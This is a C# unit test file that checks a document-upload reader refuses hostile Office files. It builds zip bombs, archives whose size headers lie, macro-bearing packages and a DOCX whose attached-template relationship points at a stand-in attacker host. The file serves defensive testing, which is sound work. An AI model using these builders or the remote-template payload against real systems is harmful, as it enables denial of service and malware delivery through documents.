using System.IO.Compression;
using System.Text;
using Portal.Web.LegalDocuments;
using Portal.Web.LegalDocuments.Files;

namespace Portal.Tests.Unit.LegalDocuments;

/// <summary>
/// DOCX and XLSX files that are not what they say, unpack without end, carry macros or fetch content from elsewhere
/// are refused; the zips are built here, from a real DOCX or XLSX the Open XML SDK wrote.
/// </summary>
public sealed class HostileOfficeFilesAreRefused
{
    private const string Docx = "Phụ lục.docx";

    [Fact]
    public async Task APdfNamedDocxIsRefused()
    {
        var reading = await Read(Docx, SimplePdf.Write("Quyết định", ["Điều 1."]));

        Assert.Equal(DocumentFileMessages.NotWhatItsNameSays(Docx, DocumentFileFormat.Docx), reading.Refusal);
    }

    [Fact]
    public async Task AnXlsxNamedDocxAndADocxNamedXlsxAreRefused()
    {
        var sheet = await Read(Docx, TestFiles.Xlsx("Biểu 1", [["Đơn vị"]]));
        var word = await Read("Biểu.xlsx", TestFiles.Docx(["Điều 1."]));

        Assert.Equal(DocumentFileMessages.NotWhatItsNameSays(Docx, DocumentFileFormat.Docx), sheet.Refusal);
        Assert.Equal(DocumentFileMessages.NotWhatItsNameSays("Biểu.xlsx", DocumentFileFormat.Xlsx), word.Refusal);
    }

    [Fact]
    public async Task AZipThatIsNoOfficeFileIsRefused()
    {
        var zip = Zip(("readme.txt", "Không phải tệp Word"u8.ToArray()));

        var reading = await Read(Docx, zip);

        Assert.Equal(DocumentFileMessages.NotWhatItsNameSays(Docx, DocumentFileFormat.Docx), reading.Refusal);
    }

    [Fact]
    public async Task AHugeEntryOfZerosIsRefusedByItsHeader()
    {
        var bomb = WithEntry(TestFiles.Docx(["Điều 1."]), "word/media/zeros.bin", 300L * 1024 * 1024);

        var reading = await Read(Docx, bomb);

        Assert.Equal(DocumentFileMessages.Bomb(Docx), reading.Refusal);
    }

    [Fact]
    public async Task AnEntryPackedTooTightIsRefusedByItsRatio()
    {
        var bomb = WithEntry(TestFiles.Docx(["Điều 1."]), "word/media/zeros.bin", 50L * 1024 * 1024);

        var reading = await Read(Docx, bomb);

        Assert.Equal(DocumentFileMessages.Bomb(Docx), reading.Refusal);
    }

    [Fact]
    public async Task AHeaderThatLiesAboutItsSizeGainsNothing()
    {
        // 60 MB of zeros claiming 4 KB: under every bound the headers are checked against. The bytes inflated are
        // counted against the claim, and the zip reader stops at the claim anyway: the reading stays small and quick.
        var bomb = ClaimingLength(WithEntry(TestFiles.Docx(["Điều 1. Lời nói dối"]), "word/media/zeros.bin", 60L * 1024 * 1024), "word/media/zeros.bin", 4096);
        var reader = TestFiles.Reader();
        var clock = System.Diagnostics.Stopwatch.StartNew();

        var reading = await reader.ReadAsync(Docx, bomb, CancellationToken.None);

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"{clock.Elapsed.TotalMilliseconds:N0} ms");
        Assert.True(reader.LastAllocated < 16L * 1024 * 1024, $"{reader.LastAllocated:N0} bytes allocated");
        Assert.True(reading.Accepted ? reading.Text == "Điều 1. Lời nói dối" : reading.Refusal == DocumentFileMessages.Bomb(Docx), reading.Refusal ?? reading.Text);
    }

    [Fact]
    public async Task TooManyEntriesAreRefused()
    {
        var many = TestFiles.Docx(["Điều 1."]);
        using (var stream = new MemoryStream())
        {
            stream.Write(many);
            using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
            {
                for (var i = 0; i < new DocumentFileLimits().MaxZipEntries; i++)
                {
                    zip.CreateEntry($"customXml/item{i}.xml", CompressionLevel.NoCompression);
                }
            }
            many = stream.ToArray();
        }

        var reading = await Read(Docx, many);

        Assert.Equal(DocumentFileMessages.Bomb(Docx), reading.Refusal);
    }

    [Fact]
    public async Task AMacroIsRefused()
    {
        var withMacro = Add(TestFiles.Docx(["Điều 1."]), "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]);
        var macroEnabled = Replace(TestFiles.Xlsx("Biểu", [["1"]]), "[Content_Types].xml",
            s => s.Replace("spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml", StringComparison.Ordinal).Replace("openxmlformats-officedocument.sheet.macroEnabled", "ms-excel.sheet.macroEnabled", StringComparison.Ordinal));

        Assert.Equal(DocumentFileMessages.Macro(Docx), (await Read(Docx, withMacro)).Refusal);
        Assert.Equal(DocumentFileMessages.Macro("Biểu.xlsx"), (await Read("Biểu.xlsx", macroEnabled)).Refusal);
    }

    [Fact]
    public async Task ATemplateFetchedFromElsewhereIsRefusedButALinkIsNot()
    {
        const string template = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
            "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://attacker.test/t.dotm\" TargetMode=\"External\"/></Relationships>";
        const string link = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
            "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://vanban.chinhphu.vn/\" TargetMode=\"External\"/></Relationships>";

        var fetching = await Read(Docx, Add(TestFiles.Docx(["Điều 1."]), "word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes(template)));
        var linking = await Read(Docx, Add(TestFiles.Docx(["Điều 1."]), "word/_rels/footnotes.xml.rels", Encoding.UTF8.GetBytes(link)));

        Assert.Equal(DocumentFileMessages.External(Docx), fetching.Refusal);
        Assert.True(linking.Accepted, linking.Refusal);
    }

    [Fact]
    public async Task ADamagedZipIsUnreadable()
    {
        var docx = TestFiles.Docx(["Điều 1."]);
        var damaged = docx[..(docx.Length / 2)];

        var reading = await Read(Docx, damaged);

        Assert.False(reading.Accepted);
    }

    private static Task<DocumentFileReading> Read(string name, byte[] content) => TestFiles.Reader().ReadAsync(name, content, CancellationToken.None);

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }
        return stream.ToArray();
    }

    internal static byte[] Add(byte[] package, string name, byte[] content)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }
        return stream.ToArray();
    }

    internal static byte[] Replace(byte[] package, string name, Func<string, string> change)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry(name)!;
            string text;
            using (var reader = new StreamReader(entry.Open()))
            {
                text = reader.ReadToEnd();
            }
            entry.Delete();
            using var writer = new StreamWriter(zip.CreateEntry(name).Open());
            writer.Write(change(text));
        }
        return stream.ToArray();
    }

    /// <summary>The package with an entry of <paramref name="zeros"/> zero bytes, packed as tight as deflate goes.</summary>
    internal static byte[] WithEntry(byte[] package, string name, long zeros)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            var block = new byte[1024 * 1024];
            for (long written = 0; written < zeros; written += block.Length)
            {
                entry.Write(block);
            }
        }
        return stream.ToArray();
    }

    /// <summary>The zip with the uncompressed size of <paramref name="name"/> rewritten to <paramref name="claimed"/> in both its headers.</summary>
    private static byte[] ClaimingLength(byte[] zip, string name, uint claimed)
    {
        var bytes = (byte[])zip.Clone();
        var encoded = Encoding.UTF8.GetBytes(name);
        for (var i = 0; i + 46 < bytes.Length; i++)
        {
            var local = bytes[i] == 'P' && bytes[i + 1] == 'K' && bytes[i + 2] == 3 && bytes[i + 3] == 4;
            var central = bytes[i] == 'P' && bytes[i + 1] == 'K' && bytes[i + 2] == 1 && bytes[i + 3] == 2;
            var nameAt = local ? i + 30 : central ? i + 46 : -1;
            if (nameAt < 0 || nameAt + encoded.Length > bytes.Length || !bytes.AsSpan(nameAt, encoded.Length).SequenceEqual(encoded))
            {
                continue;
            }
            BitConverter.TryWriteBytes(bytes.AsSpan(local ? i + 22 : i + 24, 4), claimed);
        }
        return bytes;
    }
}
